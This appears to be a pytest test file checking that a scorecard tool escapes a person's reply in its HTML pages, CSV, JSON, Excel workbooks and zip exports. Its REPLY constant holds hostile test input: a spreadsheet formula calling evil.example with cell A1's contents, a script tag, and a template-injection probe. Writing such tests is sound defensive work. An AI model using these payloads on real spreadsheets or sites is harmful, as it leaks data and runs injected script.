"""The reply: shown and exported beside the figures it is about, as it was written, and harmless wherever it goes."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from lxml import html
from openpyxl import load_workbook

from standardwerk import pipeline
from standardwerk.operations.handing_out import person_zip
from standardwerk.pipeline.exports import Choice, Export
from standardwerk.pipeline.personal import publish_personal
from standardwerk.render.shell import CONTENT, TITLE, Shell
from tests.closing.helpers import Project
from tests.sites.tiny import MONTHS, Tiny

JANUARY, FEBRUARY = MONTHS
REPLY = '=HYPERLINK("https://evil.example/?"&A1;"x")\n<script>alert(1)</script> {{ 7*7 }}\u202e\n\n**Not** so.'
LONGEST_CELL = 32_767


@pytest.fixture
def loaded(tmp_path: Path) -> pipeline.LoadedSite:
    tiny = Tiny()
    notes = f"scorecards/notes/{JANUARY}"
    tiny.files[f"{notes}/ann.reply.md"] = f"{REPLY}\n"
    tiny.files[f"{notes}/bob.reply.md"] = "Long. " * 10_000
    # Prepared for her, and nothing written yet.
    tiny.files[f"scorecards/notes/{FEBRUARY}/ann.reply.md"] = ""
    site = pipeline.load(Project(tmp_path, tiny).options()).project
    assert site is not None
    return site


def test_it_stands_on_the_page_and_in_its_data(loaded: pipeline.LoadedSite, tmp_path: Path) -> None:
    shell = Shell.compile(f"<title>{TITLE}</title>{CONTENT}")
    publish_personal(loaded, loaded.options, dict.fromkeys(pipeline.shell_keys(loaded), shell), tmp_path / "site")
    folder = tmp_path / "site/scorecards/ann"
    for language in ("de", "en"):
        page = html.document_fromstring((folder / language / JANUARY / "index.html").read_text("utf-8"))
        (shown,) = [one for one in page.iter("blockquote") if "HYPERLINK" in one.text_content()]
        assert "Not so." in shown.text_content()
        assert list(page.iter("script")) == []
    data = {month: json.loads((folder / f"{month}.json").read_text("utf-8")) for month in MONTHS}
    assert (data[JANUARY]["reply"], data[FEBRUARY]["reply"]) == (REPLY, None)
    replies = {month: [row["reply"] for row in _rows(folder / f"{month}.csv")] for month in MONTHS}
    assert len(replies[JANUARY]) > 1
    assert {month: set(found) for month, found in replies.items()} == {JANUARY: {f"'{REPLY}"}, FEBRUARY: {""}}


def _rows(file: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(file.read_text("utf-8-sig")), delimiter=";"))


def test_it_stands_in_workbooks_as_a_text(loaded: pipeline.LoadedSite) -> None:
    books = {}
    for rep in ("ann", "bob"):
        (found,) = Export(loaded, Choice(rep, None, None)).workbooks(("en",))
        books[rep] = load_workbook(io.BytesIO(found.make()))["Scorecard"]
    cell = books["ann"].cell(2, books["ann"].max_column)
    assert books["ann"].cell(1, cell.column).value == "Reply"
    assert (cell.value, cell.data_type) == (REPLY, "s")
    assert books["ann"].cell(3, cell.column).value is None
    # What no cell can hold is cut, not left out.
    cut = books["bob"].cell(2, cell.column).value
    assert len(cut) == LONGEST_CELL
    assert cut.endswith("…")


def test_it_is_handed_out(loaded: pipeline.LoadedSite) -> None:
    with zipfile.ZipFile(io.BytesIO(person_zip(loaded, "ann"))) as packed:
        tables = json.loads(packed.read("ann/data.json"))["data"]
        card = json.loads(packed.read(f"ann/scorecards/{JANUARY}.json"))
    rows = [row for table in tables if table["kind"] == "notes" for row in table["rows"]]
    assert rows == [[JANUARY, "reply", f"{REPLY}\n"]]
    assert card["reply"] == REPLY
